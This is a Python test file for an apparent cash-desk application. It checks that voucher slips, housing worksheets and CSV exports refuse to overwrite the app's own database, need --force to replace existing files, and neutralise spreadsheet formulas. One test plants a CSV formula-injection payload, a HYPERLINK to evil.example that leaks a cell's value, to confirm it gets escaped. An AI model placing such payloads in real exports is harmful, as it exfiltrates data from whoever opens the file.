"""Petty cash and housing files go through the one safe output path (``cashdesk.outputs``):
never over the store, an existing file only with --force, CSV cells that start a formula
neutralised."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import func, select
from tests.programs.test_housing_service import application

from cashdesk.app import Cashdesk
from cashdesk.cli import main
from cashdesk.domain.roles import Operator
from cashdesk.outputs import OutputRefused
from cashdesk.store.program_models import PettyCashVoucher


@pytest.fixture
def password(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CASHDESK_PASSWORD", "riverbend1")


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(list(args))
    return code, capsys.readouterr().err


def test_a_voucher_slip_naming_the_store_is_refused_before_the_voucher_is_paid(
    capsys: pytest.CaptureFixture[str], desk: Cashdesk, db_path: Path, password: None
) -> None:
    before = db_path.read_bytes()
    for target in (db_path, db_path.with_name(db_path.name + "-wal")):
        code, err = run(
            capsys,
            *("--db", str(db_path), "pettycash", "voucher", "--user", "lead"),
            *("--payee", "USPS", "--purpose", "Postage", "--account", "101-150-52200"),
            *("--amount", "12.40", "--receipt-attached", "--slip", str(target), "--force"),
        )
        assert code == 2 and "cashdesk's own files" in err
    with desk.ctx.sessions() as s:
        assert s.scalar(select(func.count()).select_from(PettyCashVoucher)) == 0
    assert db_path.read_bytes() == before


def test_housing_documents_refuse_the_store_and_an_existing_file_without_force(
    capsys: pytest.CaptureFixture[str],
    desk: Cashdesk,
    db_path: Path,
    tmp_path: Path,
    staff: Operator,
    password: None,
) -> None:
    number = desk.housing.take_application(staff, application()).number
    db = ("--db", str(db_path))
    code, err = run(capsys, *db, "housing", "worksheet", number, "--user", "lead", "--out",
                    str(db_path), "--force")  # fmt: skip
    assert code == 2 and "cashdesk's own files" in err
    existing = tmp_path / "worksheet.pdf"
    existing.write_text("kept")
    code, err = run(capsys, *db, "housing", "worksheet", number, "--user", "lead", "--out",
                    str(existing))  # fmt: skip
    assert code == 2 and "already exists" in err and "--force" in err
    assert existing.read_text() == "kept"
    code, err = run(capsys, *db, "housing", "worksheet", number, "--user", "lead", "--out",
                    str(existing), "--force")  # fmt: skip
    assert code == 0, err
    assert existing.read_bytes().startswith(b"%PDF")
    assert existing.stat().st_mode & 0o777 == 0o600


def test_the_housing_export_refuses_an_existing_file_and_neutralises_formulas(
    desk: Cashdesk, db_path: Path, tmp_path: Path, staff: Operator, admin: Operator
) -> None:
    data = replace(application(), address='=HYPERLINK("http://evil.example/?"&A1,"12 Alder St")')
    desk.housing.take_application(staff, data)
    with pytest.raises(OutputRefused, match="cashdesk's own files"):
        desk.housing.export(admin, db_path, force=True)
    target = tmp_path / "applications.csv"
    target.write_text("kept")
    with pytest.raises(OutputRefused, match="already exists"):
        desk.housing.export(admin, target)
    assert target.read_text() == "kept"
    assert desk.housing.export(admin, target, force=True) == 1
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert rows[1][4] == "'" + data.address
    assert not any(cell.startswith("=") for row in rows for cell in row)
